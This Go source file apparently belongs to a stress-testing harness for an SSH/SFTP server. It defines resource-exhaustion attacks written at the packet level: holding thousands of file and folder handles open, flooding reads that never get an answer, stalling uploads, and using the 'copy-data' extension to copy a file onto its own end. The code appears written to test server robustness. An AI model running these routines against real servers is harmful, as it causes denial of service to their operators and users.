package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"time"

	"golang.org/x/crypto/ssh"
)

// Types of SFTP's packets (draft-ietf-secsh-filexfer-02, section 3).
const (
	fxpInit, fxpOpen, fxpClose, fxpRead, fxpOpendir, fxpStat, fxpExtended = 1, 3, 4, 5, 11, 17, 200
	fxpHandle                                                             = 102

	fxfRead, fxfWrite, fxfCreat, fxfTrunc = 1, 2, 8, 16
)

// sftpAttacks speak SFTP packet by packet.
var sftpAttacks = []attack{
	{"open-folders", "open as many folders as one may, and leave them open", 6, func(ctx context.Context, w *worker) {
		c, s, err := w.sftp()
		if err != nil {
			return
		}
		for i := range uint32(1024) {
			if kind, _ := s.ask(fxpOpendir, i, "/"); kind != fxpHandle {
				break
			}
		}
		holdSSH(ctx, c, 3*time.Minute)
	}},
	{"open-files", "open as many files as one may, and leave them open", 2, func(ctx context.Context, w *worker) {
		c, s, err := w.sftp()
		if err != nil {
			return
		}
		for i := range uint32(4096) {
			if kind, _ := s.ask(fxpOpen, i, largeFile, uint32(fxfRead), uint32(0)); kind != fxpHandle {
				break
			}
		}
		holdSSH(ctx, c, 3*time.Minute)
	}},
	{"unread-sftp", "send thousands of requests and read no answer", 6, func(ctx context.Context, w *worker) {
		c, s, err := w.sftp()
		if err != nil {
			return
		}
		kind, handle := s.ask(fxpOpen, uint32(1), largeFile, uint32(fxfRead), uint32(0))
		if kind != fxpHandle {
			return
		}
		c.gate.close()
		go func() {
			for i := range uint32(100_000) {
				if s.send(fxpRead, i, handle, uint64(i%1000)<<15, uint32(32<<10)) != nil || s.send(fxpStat, i, largeFile) != nil {
					return
				}
			}
		}()
		holdSSH(ctx, c, 3*time.Minute)
	}},
	{"stalled-sftp-upload", "open a file for writing, and write no more", 6, func(ctx context.Context, w *worker) {
		c, s, err := w.sftp()
		if err != nil {
			return
		}
		s.ask(fxpOpen, uint32(1), fmt.Sprintf("stalled-sftp-%d", w.host.Load()), uint32(fxfWrite|fxfCreat|fxfTrunc), uint32(0))
		holdSSH(ctx, c, 5*time.Minute)
	}},
	{"endless-copy-data", "copy a file onto its own end", 2, func(ctx context.Context, w *worker) {
		c, s, err := w.sftp()
		if err != nil {
			return
		}
		name := fmt.Sprintf("copied-%d", w.host.Load())
		kind, to := s.ask(fxpOpen, uint32(1), name, uint32(fxfRead|fxfWrite|fxfCreat|fxfTrunc), uint32(0))
		_, again := s.ask(fxpOpen, uint32(2), name, uint32(fxfRead), uint32(0))
		_, large := s.ask(fxpOpen, uint32(3), largeFile, uint32(fxfRead), uint32(0))
		if kind != fxpHandle {
			return
		}
		copyData := func(from string, length, at uint64) {
			s.ask(fxpExtended, uint32(9), "copy-data", from, uint64(0), length, to, at)
		}
		go func() {
			copyData(large, 1<<20, 0)
			copyData(again, 0, 1<<20)
			s.ask(13, uint32(10), name) // REMOVE
			c.Close()
		}()
		holdSSH(ctx, c, 20*time.Second)
	}},
}

// packets is an SFTP channel.
type packets struct{ io.ReadWriter }

func (w *worker) sftp() (*sshConn, packets, error) {
	c, err := w.ssh(malloryUser, password)
	if err != nil {
		return nil, packets{}, err
	}
	ch, requests, err := c.OpenChannel("session", nil)
	if err != nil {
		return nil, packets{}, err
	}
	go ssh.DiscardRequests(requests)
	if _, err := ch.SendRequest("subsystem", true, ssh.Marshal(struct{ Name string }{"sftp"})); err != nil {
		return nil, packets{}, err
	}
	s := packets{ch}
	kind, _ := s.ask(fxpInit, uint32(3))
	if kind == 0 {
		return nil, packets{}, io.EOF
	}
	return c, s, nil
}

func (s packets) send(kind byte, values ...any) error {
	b := []byte{0, 0, 0, 0, kind}
	for _, v := range values {
		switch v := v.(type) {
		case uint32:
			b = binary.BigEndian.AppendUint32(b, v)
		case uint64:
			b = binary.BigEndian.AppendUint64(b, v)
		case string:
			b = append(binary.BigEndian.AppendUint32(b, uint32(len(v))), v...)
		}
	}
	binary.BigEndian.PutUint32(b, uint32(len(b)-4))
	_, err := s.Write(b)
	return err
}

// ask sends a request and returns the type of its answer, and the handle that
// is in it.
func (s packets) ask(kind byte, values ...any) (answer byte, handle string) {
	if s.send(kind, values...) != nil {
		return 0, ""
	}
	var size [4]byte
	if _, err := io.ReadFull(s, size[:]); err != nil {
		return 0, ""
	}
	b := make([]byte, binary.BigEndian.Uint32(size[:]))
	if _, err := io.ReadFull(s, b); err != nil || len(b) == 0 {
		return 0, ""
	}
	if b[0] == fxpHandle && len(b) > 9 {
		handle = string(b[9:])
	}
	return b[0], handle
}
